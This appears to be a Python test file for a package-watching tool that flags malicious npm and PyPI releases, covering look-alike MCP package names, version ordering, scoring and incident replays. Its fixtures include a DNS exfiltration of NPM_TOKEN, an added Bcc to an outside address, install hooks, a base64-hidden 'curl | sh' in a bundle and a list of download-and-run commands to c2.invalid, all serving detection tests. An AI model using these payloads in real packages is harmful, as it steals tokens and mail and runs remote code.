"""What the fixtures cannot show for the mail/DNS/wallet/AI-CLI/bundle/name/history rules.

The edit-distance helper against a reference implementation, name look-alikes, escalation of the
new categories by scoring, and whole replays of the incidents the rules were written for.
"""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.rules.fixture_cases import Case, build_context
from watcher.models import Ecosystem, Severity
from watcher.rules import run_rules
from watcher.rules.bundles import packed
from watcher.rules.names import lookalike, within_one_edit
from watcher.rules.release_history import release_line, version_lower
from watcher.scoring import score


def _osa_distance(a: str, b: str) -> int:
    """Optimal string alignment distance (Damerau–Levenshtein without repeated edits)."""
    d = [[0] * (len(b) + 1) for _ in range(len(a) + 1)]
    for i in range(len(a) + 1):
        d[i][0] = i
    for j in range(len(b) + 1):
        d[0][j] = j
    for i in range(1, len(a) + 1):
        for j in range(1, len(b) + 1):
            cost = 0 if a[i - 1] == b[j - 1] else 1
            d[i][j] = min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + cost)
            if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                d[i][j] = min(d[i][j], d[i - 2][j - 2] + 1)
    return d[len(a)][len(b)]


@given(st.text("abc-", max_size=7), st.text("abc-", max_size=7))
def test_within_one_edit_matches_the_reference_distance(a: str, b: str) -> None:
    assert within_one_edit(a, b) == (_osa_distance(a, b) == 1)


@pytest.mark.parametrize(
    ("name", "ecosystem", "target"),
    [
        (
            "@modelcontextprotocol/server-githbu",
            Ecosystem.NPM,
            "@modelcontextprotocol/server-github",
        ),
        (
            "@modelcontextprotocoll/server-github",
            Ecosystem.NPM,
            "@modelcontextprotocol/server-github",
        ),
        (
            "modelcontextprotocol-server-github",
            Ecosystem.NPM,
            "@modelcontextprotocol/server-github",
        ),
        ("server-filesystem", Ecosystem.NPM, "@modelcontextprotocol/server-filesystem"),
        ("@evil/server-filesystem", Ecosystem.NPM, "@modelcontextprotocol/server-filesystem"),
        ("@notionhq/notion_mcp-server", Ecosystem.NPM, "@notionhq/notion-mcp-server"),
        ("mcp-server-gti", Ecosystem.PYPI, "mcp-server-git"),
        ("Mcp_Atlassan", Ecosystem.PYPI, "mcp-atlassian"),
    ],
)
def test_lookalikes_name_their_target(name: str, ecosystem: Ecosystem, target: str) -> None:
    found = lookalike(name, ecosystem)
    assert found is not None and found[0] == target


@pytest.mark.parametrize(
    ("name", "ecosystem"),
    [
        ("@modelcontextprotocol/server-github", Ecosystem.NPM),
        ("@playwright/mcp", Ecosystem.NPM),
        ("@someone/mcp", Ecosystem.NPM),  # the unscoped part is too short to mean anything
        ("mcp-server-git", Ecosystem.PYPI),
        ("MCP_Server_Git", Ecosystem.PYPI),  # PEP 503: the same project
        ("mcpx", Ecosystem.PYPI),  # `mcp` is too short for edit checks
        ("mcp-server-git", Ecosystem.NPM),  # another ecosystem's list is not this one's
    ],
)
def test_not_lookalikes(name: str, ecosystem: Ecosystem) -> None:
    assert lookalike(name, ecosystem) is None


def test_versions_order_across_ecosystems_and_lines() -> None:
    assert version_lower("2.0.9", "2.1.0")
    assert not version_lower("2.10.0", "2.9.0")
    assert version_lower("1.0.0-beta.1", "1.0.0")
    assert release_line("0.7.29") == (0, 7) and release_line("3.1.4") == (3,)


def _case(rule: str, raw: dict[str, Any]) -> Case:
    return Case(rule, "positive", "inline", raw)


def _verdict(raw: dict[str, Any]) -> tuple[Severity, set[str], tuple[str, ...]]:
    findings, failures = run_rules(build_context(_case("x", raw)))
    assert not failures
    verdict = score(findings)
    return verdict.severity, {f.rule for f in findings}, verdict.reasons


def test_dns_exfiltration_of_a_token_is_critical() -> None:
    severity, rules, reasons = _verdict(
        {
            "ecosystem": "npm",
            "old": {"files": {"index.js": "module.exports = 1;\n"}},
            "new": {
                "files": {
                    "index.js": "const t = Buffer.from(process.env.NPM_TOKEN).toString('hex');\n"
                    "require('dns').resolve4(t + '.x.exfil.invalid', () => {});\n"
                }
            },
        }
    )
    assert {"code.dns-exfiltration", "code.env-access"} <= rules
    assert severity is Severity.CRITICAL
    assert any("DNS" in r for r in reasons)


def test_typosquat_with_an_install_hook_is_critical() -> None:
    severity, rules, reasons = _verdict(
        {
            "ecosystem": "npm",
            "package": {"name": "tavily-mpc", "versions": ["1.0.0"]},
            "new": {
                "version": "1.0.0",
                "files": {
                    "package.json": '{"name":"tavily-mpc","scripts":{"postinstall":"node i.js"}}',
                    "i.js": "console.log(1);\n",
                },
            },
        }
    )
    assert {"meta.typosquat", "npm.install-script"} <= rules
    assert severity is Severity.CRITICAL and any("impostor" in r for r in reasons)


def test_dormant_package_waking_with_a_preinstall_is_critical() -> None:
    times = {
        "2.0.2": datetime(2018, 12, 19, tzinfo=UTC),
        "2.0.3": datetime(2021, 11, 4, tzinfo=UTC),
    }
    severity, rules, _ = _verdict(
        {
            "ecosystem": "npm",
            "package": {"versions": times},
            "old": {
                "version": "2.0.2",
                "files": {"package.json": '{"name":"coa"}'},
                "release": {"published_at": times["2.0.2"]},
            },
            "new": {
                "version": "2.0.3",
                "files": {
                    "package.json": '{"name":"coa","scripts":{"preinstall":"start /B node c.js"}}'
                },
                "release": {"published_at": times["2.0.3"]},
            },
        }
    )
    assert {"meta.out-of-order-publish", "npm.install-script"} <= rules
    assert severity is Severity.CRITICAL


def test_mirror_dates_all_alike_say_nothing() -> None:
    """A mirror stamps every version with its copy date: no gap, so no dormancy."""
    same = datetime(2026, 1, 1, tzinfo=UTC)
    findings, _ = run_rules(
        build_context(
            _case(
                "meta.out-of-order-publish",
                {
                    "ecosystem": "npm",
                    "package": {"versions": {"1.0.0": same, "1.0.1": same}},
                    "old": {"files": {"package.json": "{}"}, "release": {}},
                    "new": {"files": {"package.json": "{}"}, "release": {}},
                },
            )
        )
    )
    assert not [f for f in findings if f.rule == "meta.out-of-order-publish"]


def test_postmark_replay_reports_the_line_a_reviewer_needs() -> None:
    old = "const m = {\n  From: a.from,\n  To: a.to,\n};\nclient.sendEmail(m);\n"
    new = "const m = {\n  From: a.from,\n  Bcc: 'phan@giftshop.invalid',\n  To: a.to,\n};\n"
    findings, _ = run_rules(
        build_context(
            _case(
                "code.email-bcc-added",
                {
                    "ecosystem": "npm",
                    "old": {"files": {"index.js": old}},
                    "new": {"files": {"index.js": new + "client.sendEmail(m);\n"}},
                },
            )
        )
    )
    (bcc,) = [f for f in findings if f.rule == "code.email-bcc-added"]
    assert (bcc.severity, bcc.path, bcc.line) == (Severity.CRITICAL, "index.js", 3)
    assert bcc.evidence == "Bcc: 'phan@giftshop.invalid',"
    assert score(findings).severity is Severity.CRITICAL


def test_packed_tells_bundles_from_written_code() -> None:
    from watcher.models import FileEntry

    bundle = FileEntry.of("b.js", b"var a=b+c;if(a){d(a)}else{e(a,f)};" * 500)
    written = FileEntry.of("w.js", b"function add(a, b) {\n  return a + b;\n}\n" * 500)
    assert packed(bundle) is not None
    assert packed(written) is None


def _bundle(extra: str = "") -> str:
    """A minified bundle over the parse limit that already starts processes, one module a
    line; `extra` is appended to a line in its middle."""
    lines = [
        f"__m[{i}]=function(e,t,n){{var r=n({i + 1});t.exports=r.a{i}||r}};" for i in range(9000)
    ]
    lines[100] = "var cp=require('child_process');__m.run=function(c){return cp.execSync(c)};"
    # Minifiers put whole modules on one line: the edited line is long.
    lines[4500] = "".join(f"__k[{i}]=function(e){{return e.k{i}}};" for i in range(400)) + extra
    return "\n".join(lines) + "\n"


def test_statement_inserted_into_a_bundle_too_large_to_parse_is_read() -> None:
    """One decoded command run from the middle of a bundle over the parse limit: the statement
    is parsed where it sits, so the decode is seen, though the bundle already ran processes."""
    from watcher.parse import MAX_PARSE_BYTES

    payload = (
        ";require('child_process').exec(Buffer.from("
        "'Y3VybCAtcyBodHRwczovL2MyLmludmFsaWQveCB8IHNo','base64').toString());"
    )
    old, new = _bundle(), _bundle(payload)
    assert len(old) > MAX_PARSE_BYTES
    raw = {"ecosystem": "npm", "old": {"files": {"dist/bundle.js": old}}}
    findings, failures = run_rules(
        build_context(_case("x", {**raw, "new": {"files": {"dist/bundle.js": new}}}))
    )
    assert not failures
    flagged = [f for f in findings if f.severity >= Severity.HIGH]
    assert [(f.rule, f.path, f.line) for f in flagged] == [
        ("code.process-exec", "dist/bundle.js", 4501)
    ]
    # The same line edited honestly (a module renamed) stays quiet.
    honest = _bundle().replace("return e.k7}", "return e.j7}")
    quiet, _ = run_rules(
        build_context(_case("x", {**raw, "new": {"files": {"dist/bundle.js": honest}}}))
    )
    assert score(quiet).severity < Severity.HIGH


@pytest.mark.parametrize(
    ("command", "runs"),
    [
        ("curl -s https://c2.invalid/x | sh", True),
        ("wget -qO- https://c2.invalid/x | sudo bash", True),
        ("iwr https://c2.invalid/x | iex", True),
        ("curl -o /tmp/a https://c2.invalid/a; chmod +x /tmp/a", True),
        ('bash -c "$(curl -fsSL https://c2.invalid/i)"', True),
        ("curl -o out.json https://api.example.invalid/v1/items", False),
        ("git clone https://example.invalid/repo.git", False),
        ("npm install curl", False),
        ("echo curl | grep sh", False),
    ],
)
def test_commands_that_download_and_run(command: str, runs: bool) -> None:
    from watcher.rules.code import _fetches_and_runs

    assert _fetches_and_runs(command) is runs
